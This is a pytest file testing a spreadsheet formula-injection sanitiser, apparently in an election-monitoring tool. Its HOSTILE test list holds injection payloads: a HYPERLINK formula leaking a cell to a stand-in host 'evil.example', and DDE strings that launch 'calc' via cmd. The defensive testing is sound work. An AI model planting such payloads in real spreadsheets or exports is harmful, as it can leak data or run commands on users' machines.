"""Formula-like text gets an apostrophe; numbers, phone numbers and ordinary text stay as they are."""

from __future__ import annotations

import csv
import datetime
import io

import pytest

from pollwatch.lib.spreadsheet_safe import runs_as_formula, safe_cell, safe_row, safe_text

HOSTILE = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?leak="&A1, "click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "-2+3+cmd|' /C calc'!A0",
    "+1 (555) 0100",
    "\t=1+1",
    "\r=1+1",
    "\t+cmd|' /C calc'!A0",
    "=",
    "-",
    "@",
]
HARMLESS = [
    "",
    "School 12",
    "Ballot box not sealed = irregular",
    " =1+1",  # a leading space makes it text in every spreadsheet
    "'=1+1",  # already neutralised: not doubled
    "Əliyev",
    "D1-001",
    "1+1",
]
NUMBERS = ["+994501234567", "-12.5", "12.5", "+12", "-0.5e-3", "-.5", "007"]


@pytest.mark.parametrize("text", HOSTILE)
def test_it_puts_an_apostrophe_before_a_formula(text):
    assert runs_as_formula(text)
    assert safe_text(text) == "'" + text


@pytest.mark.parametrize("text", HARMLESS + NUMBERS)
def test_it_leaves_text_that_cannot_run_alone(text):
    assert not runs_as_formula(text)
    assert safe_text(text) == text


@pytest.mark.parametrize(
    "value", [-12.5, -3, 0, True, None, datetime.datetime(2026, 12, 6, 8, 0, tzinfo=datetime.UTC)]
)
def test_it_never_touches_values_that_are_not_text(value):
    assert safe_cell(value) is value


def test_a_row_is_made_safe_cell_by_cell():
    row = ["=1+1", -12.5, "+994501234567", "-2+3", None, "Polling station 5"]
    assert safe_row(row) == ["'=1+1", -12.5, "+994501234567", "'-2+3", None, "Polling station 5"]


def test_the_apostrophe_survives_csv_quoting():
    out = io.StringIO()
    csv.writer(out).writerow(safe_row(['=HYPERLINK("http://x","y")', "\t=1+1", "+994501234567"]))
    read_back = next(csv.reader(io.StringIO(out.getvalue())))
    assert read_back == ['\'=HYPERLINK("http://x","y")', "'\t=1+1", "+994501234567"]


def test_an_import_error_report_does_not_echo_a_formula():
    from pollwatch.lib.tabular import RowError, errors_as_csv

    report = errors_as_csv(
        [RowError(7, "=cmd|' /C calc'!A0", "unknown column"), RowError(9, "phone", "bad", "-2+3")]
    )
    rows = list(csv.reader(io.StringIO(report)))
    assert rows[1] == ["7", "'=cmd|' /C calc'!A0", "unknown column", ""]
    assert rows[2] == ["9", "phone", "bad", "'-2+3"]
